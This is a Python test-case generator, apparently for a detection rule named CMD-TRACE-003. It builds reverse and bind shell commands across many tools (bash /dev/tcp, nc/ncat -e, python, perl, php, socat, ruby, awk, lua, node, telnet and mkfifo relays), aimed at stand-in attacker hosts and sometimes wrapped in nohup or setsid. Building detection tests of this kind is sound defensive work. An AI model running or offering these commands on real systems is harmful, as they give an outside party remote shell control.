"""Family: reverse and bind shells, from the usual cheat sheets (GTFOBins, the
reverse-shell generators) and their common wrappers (nohup, setsid, a subshell in the
background, bash -c, a hostname instead of an IP, unusual ports).

Techniques: busybox nc, ruby, awk, lua, telnet piped into a shell, mkfifo/mknod
relays, bash /dev/tcp and /dev/udp, python sockets, plus perl, php, socat, nc/ncat -e,
node and openssl relays, and bind shells. The right rule is CMD-TRACE-003.
"""

from . import expect as E


def _addr(w):
    if w.chance(0.75):
        return w.public_ip(), w.port()
    return w.choice([w.attacker_domain(), w.known_bad()]), w.port()


def _wrap(w, cmd, quote_ok=True):
    form = w.randint(0, 6)
    compound = any(c in cmd for c in ";|&")
    if form == 0 or not quote_ok or (compound and form != 2):
        return cmd
    if form == 1:
        return f"nohup {cmd} >/dev/null 2>&1 &"
    if form == 2:
        return f"({cmd} &)"
    if form == 3 and "'" not in cmd:
        return f"bash -c '{cmd}'"
    if form == 4:
        return f"setsid {cmd} &"
    return cmd


def busybox_nc(w, i):
    h, p = _addr(w)
    c = w.choice([f"busybox nc {h} {p} -e /bin/sh", f"busybox nc {h} {p} -e sh", f"busybox nc -lp {p} -e /bin/sh",
                  f"/bin/busybox nc {h} {p} -e /bin/bash"])
    return c


def ruby(w, i):
    h, p = _addr(w)
    return w.choice([
        f"ruby -rsocket -e 'f=TCPSocket.open(\"{h}\",{p}).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
        f"ruby -rsocket -e 'exit if fork;c=TCPSocket.new(\"{h}\",\"{p}\");loop{{c.gets.chomp!;(exit! if $_==\"exit\");IO.popen($_,\"r\"){{|io|c.print io.read}}}}'",
        f"ruby -rsocket -e 's=TCPSocket.new(\"{h}\",{p});while(cmd=s.gets);IO.popen(cmd,\"r\"){{|io|s.print io.read}};end'",
    ])


def awk(w, i):
    h, p = _addr(w)
    a = w.choice(["awk", "gawk"])
    return w.choice([
        f"{a} 'BEGIN {{s = \"/inet/tcp/0/{h}/{p}\"; while(42) {{ do{{ printf \"shell>\" |& s; s |& getline c; if(c){{ while ((c |& getline) > 0) print $0 |& s; close(c); }} }} while(c != \"exit\") close(s); }}}}' /dev/null",
        f"{a} 'BEGIN{{s=\"/inet/tcp/0/{h}/{p}\";for(;s|&getline c;close(c))while(c|getline)print|&s;close(s)}}'",
    ])


def lua(w, i):
    h, p = _addr(w)
    lu = w.choice(["lua", "lua5.1", "lua5.4", "luajit"])
    return w.choice([
        f"{lu} -e \"require('socket');require('os');t=socket.tcp();t:connect('{h}','{p}');os.execute('/bin/sh -i <&3 >&3 2>&3');\"",
        f"{lu} -e \"local host, port = '{h}', {p} local socket = require('socket') local tcp = socket.tcp() local io = require('io') tcp:connect(host, port); while true do local cmd, status, partial = tcp:receive() local f = io.popen(cmd, 'r') local s = f:read('*a') f:close() tcp:send(s) if status == 'closed' then break end end tcp:close()\"",
    ])


def telnet_pipe(w, i):
    h, p = _addr(w)
    p2 = p + 1
    f = w.choice(["/tmp/p", "/tmp/.x", f"/tmp/{w.label()}", "/dev/shm/f"])
    return w.choice([
        f"telnet {h} {p} | /bin/sh | telnet {h} {p2}",
        f"rm -f {f}; mknod {f} p && telnet {h} {p} 0<{f} | /bin/bash 1>{f}",
        f"telnet {h} {p} | bash | telnet {h} {p2}",
        f"mkfifo {f} && telnet {h} {p} 0<{f} | sh 1>{f}",
    ])


def fifo_relay(w, i):
    h, p = _addr(w)
    f = w.choice(["/tmp/f", "/tmp/.s", f"/tmp/{w.label()}", "/var/tmp/.p", "/dev/shm/q"])
    return w.choice([
        f"rm {f};mkfifo {f};cat {f}|/bin/sh -i 2>&1|nc {h} {p} >{f}",
        f"rm -f {f}; mknod {f} p; /bin/sh 0<{f} | nc {h} {p} 1>{f}",
        f"mkfifo {f}; nc {h} {p} < {f} | /bin/bash > {f} 2>&1; rm {f}",
        f"mkfifo {f}; /bin/sh -i < {f} 2>&1 | openssl s_client -quiet -connect {h}:{p} > {f}; rm {f}",
        f"rm -f {f};mkfifo {f};cat {f}|sh -i 2>&1|ncat --ssl {h} {p} >{f}",
    ])


def bash_dev_tcp(w, i):
    h, p = _addr(w)
    fd = w.choice([196, 5, 3, 200, 7])
    return w.choice([
        f"bash -i >& /dev/tcp/{h}/{p} 0>&1",
        f"0<&{fd};exec {fd}<>/dev/tcp/{h}/{p}; sh <&{fd} >&{fd} 2>&{fd}",
        f"exec {fd}<>/dev/tcp/{h}/{p};cat <&{fd} | while read line; do $line 2>&{fd} >&{fd}; done",
        f"sh -i >& /dev/udp/{h}/{p} 0>&1",
        f"/bin/bash -l > /dev/tcp/{h}/{p} 0<&1 2>&1",
        f"bash -c 'exec bash -i &>/dev/tcp/{h}/{p} <&1'",
        f"zsh -c 'zmodload zsh/net/tcp && ztcp {h} {p} && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
    ])


def python_socket(w, i):
    h, p = _addr(w)
    py = w.choice(["python3", "python", "python2", "/usr/bin/python3"])
    return w.choice([
        f"{py} -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"{h}\",{p}));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty; pty.spawn(\"sh\")'",
        f"{py} -c 'import os,pty,socket;s=socket.socket();s.connect((\"{h}\",{p}));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn(\"/bin/bash\")'",
        f"export RHOST=\"{h}\";export RPORT={p};{py} -c 'import sys,socket,os,pty;s=socket.socket();s.connect((os.getenv(\"RHOST\"),int(os.getenv(\"RPORT\"))));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn(\"sh\")'",
        f"{py} -c \"import socket,subprocess;s=socket.create_connection(('{h}',{p}));subprocess.Popen(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())\"",
    ])


def perl(w, i):
    h, p = _addr(w)
    return w.choice([
        f"perl -e 'use Socket;$i=\"{h}\";$p={p};socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){{open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"sh -i\");}};'",
        f"perl -MIO -e '$p=fork;exit,if($p);foreach my $key(keys %ENV){{if($ENV{{$key}}=~/(.*)/){{$ENV{{$key}}=$1;}}}}$c=new IO::Socket::INET(PeerAddr,\"{h}:{p}\");STDIN->fdopen($c,r);$~->fdopen($c,w);while(<>){{if($_=~ /(.*)/){{system $1;}}}};'",
    ])


def php(w, i):
    h, p = _addr(w)
    return w.choice([
        f"php -r '$sock=fsockopen(\"{h}\",{p});exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
        f"php -r '$sock=fsockopen(\"{h}\",{p});shell_exec(\"sh <&3 >&3 2>&3\");'",
        f"php -r '$s=fsockopen(\"{h}\",{p});$proc=proc_open(\"sh\", array(0=>$s, 1=>$s, 2=>$s),$pipes);'",
        f"php -r '$sock=fsockopen(\"{h}\",{p});popen(\"/bin/sh -i <&3 >&3 2>&3\", \"r\");'",
    ])


def socat(w, i):
    h, p = _addr(w)
    return w.choice([
        f"socat TCP:{h}:{p} EXEC:'bash -li',pty,stderr,setsid,sigint,sane",
        f"socat tcp-connect:{h}:{p} exec:/bin/sh",
        f"socat exec:'sh -li',pty,stderr,setsid,sigint,sane tcp:{h}:{p}",
        f"socat TCP-LISTEN:{p},reuseaddr,fork EXEC:/bin/bash",
        f"socat OPENSSL:{h}:{p},verify=0 EXEC:/bin/sh",
    ])


def nc_exec(w, i):
    h, p = _addr(w)
    return w.choice([f"nc -e /bin/sh {h} {p}", f"nc {h} {p} -e /bin/bash", f"ncat {h} {p} -e /bin/bash",
                     f"nc -c bash {h} {p}", f"ncat --udp {h} {p} -e /bin/sh", f"nc.traditional -e /bin/sh {h} {p}",
                     f"ncat -lvnp {p} -e /bin/bash", f"nc -lvp {p} -e /bin/sh"])


def node(w, i):
    h, p = _addr(w)
    return w.choice([
        f"node -e \"sh = require('child_process').spawn('/bin/sh');require('net').connect({p}, '{h}', function () {{ this.pipe(sh.stdin); sh.stdout.pipe(this); sh.stderr.pipe(this); }})\"",
        f"node -e \"require('child_process').exec('nc -e /bin/sh {h} {p}')\"",
        f"node -e \"(function(){{var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);var client=new net.Socket();client.connect({p},'{h}',function(){{client.pipe(sh.stdin);sh.stdout.pipe(client);sh.stderr.pipe(client);}});return /a/;}})();\"",
    ])


def _make(fn, quote_ok=True):
    def make(w, i):
        cmd = _wrap(w, fn(w, i), quote_ok=quote_ok)
        return {"steps": [cmd], "expect": E.REVSHELL, "variant": cmd.split()[0]}
    return make


TECHNIQUES = [
    ("busybox_nc", _make(busybox_nc)),
    ("ruby_tcpsocket", _make(ruby)),
    ("awk_inet", _make(awk, quote_ok=False)),
    ("lua_socket", _make(lua)),
    ("telnet_pipe_sh", _make(telnet_pipe)),
    ("mkfifo_mknod_relay", _make(fifo_relay)),
    ("bash_dev_tcp", _make(bash_dev_tcp)),
    ("python_socket", _make(python_socket)),
    ("perl_socket", _make(perl)),
    ("php_fsockopen", _make(php)),
    ("socat", _make(socat)),
    ("nc_ncat_exec", _make(nc_exec)),
    ("node_net", _make(node)),
]
FAMILY = "reverse_shells"
PER_TECHNIQUE = 3
